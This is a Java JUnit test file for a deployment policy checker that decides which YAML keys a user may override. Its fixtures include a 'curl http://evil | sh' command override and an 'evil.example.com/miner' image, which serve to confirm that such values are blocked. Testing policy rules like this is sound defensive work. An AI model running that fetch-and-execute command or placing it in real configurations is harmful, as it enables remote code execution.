package dev.modelsphere.swiss.deploy.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.modelsphere.swiss.site.PolicyKeys;
import dev.modelsphere.swiss.values.Yaml;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The keys a user layer may set, as the site's {@code policy.keys} says. */
class KeyRulesTest {

  private static List<Finding> check(PolicyKeys keys, String layerYaml) {
    return new KeyRules(keys).check("form", Yaml.tree("form", layerYaml));
  }

  private static List<String> fields(List<Finding> findings) {
    return findings.stream().map(Finding::field).toList();
  }

  @Test
  void byDefaultAUserMaySetAnyKeyButTheContainersCommand() {
    List<Finding> found =
        check(
            PolicyKeys.defaults(),
            """
            replicaCount: 2
            extraArgs: [--max-model-len=4096]
            commandOverride: [sh, -c, "curl http://evil | sh"]
            hangWatcher: {command: [sh]}
            """);

    assertThat(fields(found)).containsExactly("commandOverride", "hangWatcher.command");
    assertThat(found.get(0).message())
        .contains("form", "commandOverride", "curl http://evil | sh", "policy.keys.deny");
  }

  @Test
  void aKeyCannotHideInAListItem() {
    List<Finding> found =
        check(PolicyKeys.defaults(), "sidecars:\n  - name: x\n    command: [sh, -c, id]\n");

    assertThat(fields(found)).containsExactly("sidecars.0.command");
  }

  @Test
  void withAnAllowListOnlyThoseKeysAndWhatLiesUnderThemMayBeSet() {
    PolicyKeys keys = new PolicyKeys(List.of("replicaCount", "resources", "*.enabled"), List.of());

    List<Finding> found =
        check(
            keys,
            """
            replicaCount: 2
            resources: {limits: {cpu: 4}}
            scaler: {enabled: true}
            hostNetwork: true
            image: {repository: evil.example.com/miner}
            """);

    assertThat(fields(found)).containsExactly("hostNetwork", "image.repository");
    assertThat(found.get(0).message()).contains("policy.keys.allow", "replicaCount, resources");
  }

  @Test
  void aDoubleStarMatchesAnyDepthIncludingNone() {
    PolicyKeys keys = new PolicyKeys(List.of(), List.of("**.securityContext"));

    assertThat(fields(check(keys, "securityContext: {privileged: true}\n")))
        .containsExactly("securityContext.privileged");
    assertThat(fields(check(keys, "a: {b: {securityContext: null}}\n")))
        .containsExactly("a.b.securityContext");
    assertThat(check(keys, "securityContexts: {x: 1}\n")).isEmpty();
  }
}
